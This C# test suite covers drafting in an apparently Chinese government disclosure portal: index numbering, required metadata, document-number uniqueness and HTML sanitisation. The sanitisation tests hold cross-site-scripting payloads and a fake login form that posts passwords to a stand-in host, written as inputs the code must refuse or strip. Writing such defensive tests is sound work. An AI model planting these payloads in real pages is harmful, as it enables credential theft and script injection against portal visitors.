using Gongkai.Application;
using Gongkai.Application.Catalog;
using Gongkai.Domain.Catalog;
using Gongkai.Tests.Support;
using Microsoft.EntityFrameworkCore;

namespace Gongkai.Tests.Catalog;

/// <summary>Drafting: 索引号, required metadata, 文号 uniqueness, safe bodies.</summary>
public sealed class ItemDraftingTests(PostgresServer postgres)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Theory, BothDatabases]
    public async Task Draft_GetsIndexNumberCodeYearSerial_SequentialAndUnique(DatabaseProvider provider)
    {
        await using var app = await TestApp.StartAsync(provider, postgres);
        var agency = await app.SetUpAsync("000014349");
        var editor = await app.AddStaffAsync("editor", agency.Id, Roles.Editor);

        var first = await app.DraftAsync(editor, await app.ValidInputAsync(agency.Id, "第一条"));
        var second = await app.DraftAsync(editor, await app.ValidInputAsync(agency.Id, "第二条"));
        var third = await app.DraftAsync(editor, await app.ValidInputAsync(agency.Id, "第三条"));

        Assert.Equal("000014349/2025-00001", first.IndexNo);
        Assert.Equal("000014349/2025-00002", second.IndexNo);
        Assert.Equal("000014349/2025-00003", third.IndexNo);
        Assert.Equal(ItemStatus.Draft, first.Status);
        var stored = await app.WithDbAsync(db => db.Items.OrderBy(i => i.Id).Select(i => i.IndexNo).ToListAsync(Ct));
        Assert.Equal([first.IndexNo, second.IndexNo, third.IndexNo], stored);
    }

    [Theory, BothDatabases]
    public async Task Draft_SerialRestartsPerAgencyAndYear(DatabaseProvider provider)
    {
        await using var app = await TestApp.StartAsync(provider, postgres);
        var top = await app.SetUpAsync("000014349");
        var dept = await app.AddAgencyAsync("j602402", "县教育局", top.Id);
        var topEditor = await app.AddStaffAsync("top-editor", top.Id, Roles.Editor);
        var deptEditor = await app.AddStaffAsync("dept-editor", dept.Id, Roles.Editor);

        await app.DraftAsync(topEditor, await app.ValidInputAsync(top.Id, "县政府2025年第一条"));
        var lastYear = await app.DraftAsync(topEditor, (await app.ValidInputAsync(top.Id, "2024年形成的信息")) with { FormedOn = new DateOnly(2024, 12, 30) });
        var deptFirst = await app.DraftAsync(deptEditor, await app.ValidInputAsync(dept.Id, "教育局第一条"));

        Assert.Equal("000014349/2024-00001", lastYear.IndexNo);
        Assert.Equal("j602402/2025-00001", deptFirst.IndexNo);
    }

    [Theory, BothDatabases]
    public async Task Draft_ConcurrentDraftsInOneAgency_GetDistinctSerials(DatabaseProvider provider)
    {
        await using var app = await TestApp.StartAsync(provider, postgres);
        var agency = await app.SetUpAsync("000014349");
        var editor = await app.AddStaffAsync("editor", agency.Id, Roles.Editor);
        var input = await app.ValidInputAsync(agency.Id);

        var items = await Task.WhenAll(Enumerable.Range(1, 6).Select(n => app.DraftAsync(editor, input with { Title = $"并发拟稿{n}" })));

        Assert.Equal(Enumerable.Range(1, 6), items.Select(i => i.Serial).Order());
        Assert.Equal(6, items.Select(i => i.IndexNo).Distinct().Count());
    }

    [Theory, BothDatabases]
    public async Task Draft_MissingRequiredMetadata_IsRefusedInChineseAndNothingSaved(DatabaseProvider provider)
    {
        await using var app = await TestApp.StartAsync(provider, postgres);
        var agency = await app.SetUpAsync();
        var editor = await app.AddStaffAsync("editor", agency.Id, Roles.Editor);
        var auditBefore = await app.WithDbAsync(db => db.AuditEntries.CountAsync(Ct));
        var input = (await app.ValidInputAsync(agency.Id)) with { Title = " ", PublishingOrg = "", FormedOn = null, ColumnId = 0 };

        var ex = await Assert.ThrowsAsync<ValidationException>(() => app.DraftAsync(editor, input));

        Assert.Equal(["请填写标题。"], ex.Errors[nameof(ItemInput.Title)]);
        Assert.Equal(["请填写发布机构。"], ex.Errors[nameof(ItemInput.PublishingOrg)]);
        Assert.StartsWith("请填写信息形成（或变更）日期", ex.Errors[nameof(ItemInput.FormedOn)].Single(), StringComparison.Ordinal);
        Assert.Equal(["请选择本单位的栏目。"], ex.Errors[nameof(ItemInput.ColumnId)]);
        Assert.Equal(0, await app.WithDbAsync(db => db.Items.CountAsync(Ct)));
        Assert.Equal(0, await app.WithDbAsync(db => db.ItemRevisions.CountAsync(Ct)));
        Assert.Equal(auditBefore, await app.WithDbAsync(db => db.AuditEntries.CountAsync(Ct)));
    }

    [Theory, BothDatabases]
    public async Task Draft_FormedInTheFuture_IsRefused(DatabaseProvider provider)
    {
        await using var app = await TestApp.StartAsync(provider, postgres);
        var agency = await app.SetUpAsync();
        var editor = await app.AddStaffAsync("editor", agency.Id, Roles.Editor);

        var ex = await Assert.ThrowsAsync<ValidationException>(async () =>
            await app.DraftAsync(editor, (await app.ValidInputAsync(agency.Id)) with { FormedOn = app.Clock.Today.AddDays(1) }));

        Assert.Equal(["信息形成日期不能晚于今天。"], ex.Errors[nameof(ItemInput.FormedOn)]);
    }

    [Theory, BothDatabases]
    public async Task Draft_DuplicateDocNoInSameAgency_IsRefused_ButAllowedInAnotherAgency(DatabaseProvider provider)
    {
        await using var app = await TestApp.StartAsync(provider, postgres);
        var top = await app.SetUpAsync();
        var dept = await app.AddAgencyAsync("edu", "县教育局", top.Id);
        var editor = await app.AddStaffAsync("editor", top.Id, Roles.Editor);
        var deptEditor = await app.AddStaffAsync("dept-editor", dept.Id, Roles.Editor);
        await app.DraftAsync(editor, await app.ValidInputAsync(top.Id, "原文件", docNo: "示政发〔2025〕1号"));

        var ex = await Assert.ThrowsAsync<ValidationException>(async () =>
            await app.DraftAsync(editor, await app.ValidInputAsync(top.Id, "另一文件", docNo: "示政发〔2025〕1号")));
        var other = await app.DraftAsync(deptEditor, await app.ValidInputAsync(dept.Id, "教育局文件", docNo: "示政发〔2025〕1号"));

        Assert.Equal(["文号“示政发〔2025〕1号”在本单位已被其他信息使用。"], ex.Errors[nameof(ItemInput.DocNo)]);
        Assert.Equal("示政发〔2025〕1号", other.DocNo);
        Assert.Equal(1, await app.WithDbAsync(db => db.Items.CountAsync(i => i.AgencyId == top.Id, Ct)));
    }

    [Theory, BothDatabases]
    public async Task Draft_BodyWithScriptOrEventHandler_IsRefused(DatabaseProvider provider)
    {
        await using var app = await TestApp.StartAsync(provider, postgres);
        var agency = await app.SetUpAsync();
        var editor = await app.AddStaffAsync("editor", agency.Id, Roles.Editor);
        var input = await app.ValidInputAsync(agency.Id);

        var script = await Assert.ThrowsAsync<ValidationException>(() => app.DraftAsync(editor, input with { BodyHtml = "<p>通知</p><script>alert(1)</script>" }));
        var onclick = await Assert.ThrowsAsync<ValidationException>(() => app.DraftAsync(editor, input with { BodyHtml = "<p onclick=\"steal()\">点击</p>" }));
        var jsLink = await Assert.ThrowsAsync<ValidationException>(() => app.DraftAsync(editor, input with { BodyHtml = "<a href=\"javascript:steal()\">链接</a>" }));

        Assert.Contains("<script>", script.Errors[nameof(ItemInput.BodyHtml)].Single(), StringComparison.Ordinal);
        Assert.Contains("onclick", onclick.Errors[nameof(ItemInput.BodyHtml)].Single(), StringComparison.Ordinal);
        Assert.Contains("javascript:", jsLink.Errors[nameof(ItemInput.BodyHtml)].Single(), StringComparison.Ordinal);
        Assert.Equal(0, await app.WithDbAsync(db => db.Items.CountAsync(Ct)));
    }

    [Theory, BothDatabases]
    public async Task Draft_HarmlessFormatting_IsKept(DatabaseProvider provider)
    {
        await using var app = await TestApp.StartAsync(provider, postgres);
        var agency = await app.SetUpAsync();
        var editor = await app.AddStaffAsync("editor", agency.Id, Roles.Editor);

        var item = await app.DraftAsync(editor, (await app.ValidInputAsync(agency.Id)) with { BodyHtml = "<p class=\"lead\"><strong>一、</strong>总体要求</p>" });

        Assert.Equal("<p class=\"lead\"><strong>一、</strong>总体要求</p>", item.BodyHtml);
    }

    // Found by the staff-side attack: a look-alike login form with a password field was stored and shown on the portal.
    [Theory, BothDatabases]
    public async Task Draft_FormControlsInTheBody_AreRemovedAndTheTextKept(DatabaseProvider provider)
    {
        await using var app = await TestApp.StartAsync(provider, postgres);
        var agency = await app.SetUpAsync();
        var editor = await app.AddStaffAsync("editor", agency.Id, Roles.Editor);
        const string phishing = "<p>请重新登录</p><form action=\"https://example.invalid/steal\" method=\"post\"><label>密码</label>"
            + "<input type=\"password\" name=\"pw\"><select><option>一</option></select><textarea>备注</textarea><button>登录</button></form>";

        var item = await app.DraftAsync(editor, (await app.ValidInputAsync(agency.Id)) with { BodyHtml = phishing });

        var stored = await app.WithDbAsync(db => db.Items.Where(i => i.Id == item.Id).Select(i => i.BodyHtml).SingleAsync(Ct));
        foreach (var tag in new[] { "<form", "<input", "<select", "<option", "<textarea", "<button", "<label" })
        {
            Assert.DoesNotContain(tag, stored, StringComparison.OrdinalIgnoreCase);
        }
        Assert.Contains("请重新登录", stored, StringComparison.Ordinal);
    }

    [Theory, BothDatabases]
    public async Task Draft_DeeplyNestedOrOversizedBody_IsRefusedAndNothingIsSaved(DatabaseProvider provider)
    {
        await using var app = await TestApp.StartAsync(provider, postgres);
        var agency = await app.SetUpAsync();
        var editor = await app.AddStaffAsync("editor", agency.Id, Roles.Editor);
        var input = await app.ValidInputAsync(agency.Id);

        var nested = await Assert.ThrowsAsync<ValidationException>(() => app.DraftAsync(editor, input with { BodyHtml = string.Concat(Enumerable.Repeat("<div>", 200_000)) }));
        var oversized = await Assert.ThrowsAsync<ValidationException>(() => app.DraftAsync(editor, input with { BodyHtml = "<p>" + new string('文', BodySanitizer.MaxLength) + "</p>" }));

        Assert.Contains("嵌套超过", nested.Errors[nameof(ItemInput.BodyHtml)].Single(), StringComparison.Ordinal);
        Assert.Contains("正文过长", oversized.Errors[nameof(ItemInput.BodyHtml)].Single(), StringComparison.Ordinal);
        Assert.Equal(0, await app.WithDbAsync(db => db.Items.CountAsync(Ct)));
    }
}
